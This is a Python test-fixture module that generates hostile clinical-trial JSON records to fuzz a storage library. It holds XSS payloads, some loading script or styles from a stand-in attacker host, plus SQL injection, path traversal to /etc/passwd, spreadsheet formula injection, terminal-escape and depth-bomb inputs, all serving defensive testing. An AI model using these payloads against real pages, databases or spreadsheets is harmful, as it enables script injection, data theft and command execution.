"""Records made to do harm, from the sample records and a fixed seed: the same ones on every run."""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial
from typing import Any

from trialkin.sample import records

SEED = 20_261_122

# Each would set `window.pwned`, open a dialog or ask another host, if a page let it run.
PAYLOADS = (
    "<script>window.pwned=1;alert(1)</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    '"><script src=//evil.example.net/x.js></script>',
    "'><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "' autofocus onfocus=window.pwned=1 x='",
    '" onmouseover="window.pwned=1" style="position:fixed;inset:0" x="',
    "javascript:window.pwned=1",
    "[click](javascript:window.pwned=1)",
    "[click](<java\nscript:window.pwned=1>)",
    "![x](https://evil.example.net/pixel.png)",
    "<javascript:window.pwned=1>",
    "[a]: javascript:window.pwned=1\n\n[a]",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "\\<script\\>window.pwned=1\\</script\\>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\\&lt;script\\&gt;window.pwned=1\\&lt;/script\\&gt;",
    "</title><script>window.pwned=1</script>",
    "</textarea></style></template><script>window.pwned=1</script>",
    "<!--><script>window.pwned=1</script>-->",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "<link rel=stylesheet href=https://evil.example.net/x.css><style>@import '//evil.example.net/y.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.net/'>",
    "<base href=https://evil.example.net/><form action=//evil.example.net><button>x</button></form>",
    "<object data=//evil.example.net/x><embed src=javascript:window.pwned=1>",
    "\x1b[2J\x1b]0;pwned\x07\x9b31m\x08\x08\r",
    "\u202egnp.exe\u202c\u2066\u200b\ufeff\u2028\u2029",
    "a" * 5_000,
    "[" * 2_000 + "](" * 1_000,
    "*_" * 2_000 + "x",
    "> " * 3_000 + "x",
    "\n".join("  " * n + "* item" for n in range(200)),
    "'; DROP TABLE version; --",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A0",
)


@dataclass(frozen=True)
class Hostile:
    """One record's bytes, what kind of harm, and whether a good library must be able to store it."""

    kind: str
    raw: bytes
    storable: bool | None  # None: either way is right


@cache
def _templates() -> tuple[dict[str, Any], ...]:
    """The sample records, the one with many sites cut short."""
    found = [json.loads(data) for _, data in records()]
    for record in found:
        places = record["protocolSection"].get("contactsLocationsModule", {}).get("locations", [])
        del places[6:]
    return tuple(found)


def _with_id(record: dict[str, Any], number: int) -> dict[str, Any]:
    record["protocolSection"]["identificationModule"]["nctId"] = f"NCT98{number:06d}"
    return record


def _each_text(value: Any, change: Callable[[str], Any]) -> Any:
    if isinstance(value, dict):
        return {key: _each_text(item, change) for key, item in value.items()}
    if isinstance(value, list):
        return [_each_text(item, change) for item in value]
    return change(value) if isinstance(value, str) else value


def _filled(form: str, payload: str, text: str) -> str:
    return form.replace("{text}", text).replace("{payload}", payload)


def _encode(record: Any) -> bytes:
    return json.dumps(record, ensure_ascii=False).encode("utf-8", "surrogatepass")


def payload_records() -> Iterator[Hostile]:
    """Every payload in every text field of every sample record: replaced, before and after."""
    number = 0
    for at, payload in enumerate(PAYLOADS):
        for template in _templates():
            number += 1
            form = ("{payload}", "{text}{payload}", "{payload} {text}")[number % 3]
            record = _each_text(template, partial(_filled, form, payload))
            yield Hostile(f"payload {at}", _encode(_with_id(record, number)), True)


def _leaf_holders(record: Any) -> list[tuple[Any, Any]]:
    """Every (container, key) of the record."""
    found = []
    pairs = record.items() if isinstance(record, dict) else enumerate(record) if isinstance(record, list) else ()
    for key, item in pairs:
        found.append((record, key))
        found += _leaf_holders(item)
    return found


def wrong_type_records(count: int = 400) -> Iterator[Hostile]:
    """One value somewhere replaced by one of another type."""
    chance = random.Random(SEED)
    odd: tuple[Any, ...] = (
        None,
        True,
        0,
        -1,
        1.5,
        10**30,
        "",
        "x",
        [],
        {},
        [[]],
        [None],
        {"a": []},
        [1, "2"],
        {"": {"": ""}},
        "NaN",
        99_999_999_999_999_999_999,
    )
    for number in range(count):
        record = copy.deepcopy(chance.choice(_templates()))
        holder, key = chance.choice(_leaf_holders(record))
        holder[key] = chance.choice(odd)
        ident = record.get("protocolSection")
        module = ident.get("identificationModule") if isinstance(ident, dict) else None
        if isinstance(module, dict) and isinstance(module.get("nctId"), str):
            module["nctId"] = f"NCT97{number:06d}"
        yield Hostile("wrong type", _encode(record), None)


def _minimal(number: int, extra: str = "") -> bytes:
    return (
        f'{{"protocolSection": {{"identificationModule": {{"nctId": "NCT96{number:06d}", '
        f'"briefTitle": "odd"}}}}{extra}}}'
    ).encode()


def odd_bytes() -> Iterator[Hostile]:
    """Bytes that are no JSON, or JSON that should not be."""
    good = _minimal(1)
    for depth in (50, 99, 101, 5_000, 1_000_000):
        yield Hostile("depth bomb", b"[" * depth + b"]" * depth, False)
        yield Hostile("depth bomb", b'{"a":' * depth + b"1" + b"}" * depth, False)
    yield Hostile("depth bomb", _minimal(2, ', "x": ' + "[" * 90 + "]" * 90), True)
    yield Hostile("depth bomb", _minimal(3, ', "x": ' + "[" * 500 + "]" * 500), False)
    for text in (r'"\ud800"', r'"\udfff\ud800"', r'"\ud83d"', r'"\u0000"', r'"\u001b"', r'"\uffff"', r'"\x"'):
        yield Hostile("escape", _minimal(10).replace(b'"odd"', text.encode()), None)
        yield Hostile("escape", _minimal(11, f', "x": {text}'), None)
    for raw in (b"\xff\xfe", b"\xc0\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x80", b"\xe2\x82"):
        yield Hostile("bad UTF-8", good.replace(b"odd", raw), None)
        yield Hostile("bad UTF-8", _minimal(12, ', "x": "').removesuffix(b"}") + raw + b'"}', None)
    yield Hostile("mark", b"\xef\xbb\xbf" + _minimal(20), True)
    yield Hostile("mark", _minimal(21).decode().encode("utf-16"), True)
    yield Hostile("NUL", good.replace(b"odd", b"o\x00d"), None)
    yield Hostile("NUL", good + b"\x00" * 64, None)
    for number in (
        "1e999",
        "-1e999",
        "1" * 5_000,
        "0.1" + "0" * 5_000,
        "NaN",
        "Infinity",
        "01",
        "+1",
        "0x10",
        "1e-999",
    ):
        yield Hostile("number", _minimal(30, f', "x": {number}'), None)
        count = f'{{"enrollmentInfo": {{"count": {number}}}}}'
        yield Hostile(
            "number", _minimal(31).replace(b'"odd"}', f'"odd"}}, "designModule": {count}'.encode()), None
        )
    twice = b'{"nctId": "NCT96000040", "nctId": "NCT96000041"}'
    yield Hostile("duplicate keys", b'{"protocolSection": {"identificationModule": ' + twice + b"}}", True)
    yield Hostile("duplicate keys", b'{"a": 1, "a": 2, ' + _minimal(42)[1:], True)
    for raw in (
        b"",
        b" ",
        b"null",
        b"true",
        b"0",
        b'""',
        b"[]",
        b"{}",
        b"{",
        b"[{}]",
        b"}{",
        b"<html></html>",
        good[:-1],
        good + good,
        b'{"studies": null}',
        b'{"studies": 3}',
        b'{"studies": [null, 1, [], {}]}',
    ):
        yield Hostile("not a study", raw, None)
    for bad in ("", "NCT", "NCT00000000", "NCT123456789", "nct٠١٢٣٤٥٦٧", "../NCT01", "NCT0732069O", " "):
        yield Hostile(
            "bad id", json.dumps({"protocolSection": {"identificationModule": {"nctId": bad}}}).encode(), None
        )


def huge_records() -> Iterator[Hostile]:
    """A few of 50 MB and one beyond the limit."""
    yield Hostile("50 MB", _minimal(50).replace(b"odd", b"<b>" + b"x" * 50_000_000), True)
    yield Hostile("50 MB", _minimal(51, ', "x": "' + "y" * 50_000_000 + '"'), True)
    yield Hostile("70 MB", _minimal(52, ', "x": "' + "y" * 70_000_000 + '"'), False)


def hostile_records() -> Iterator[Hostile]:
    """All but the huge ones: well over a thousand."""
    yield from payload_records()
    yield from wrong_type_records()
    yield from odd_bytes()
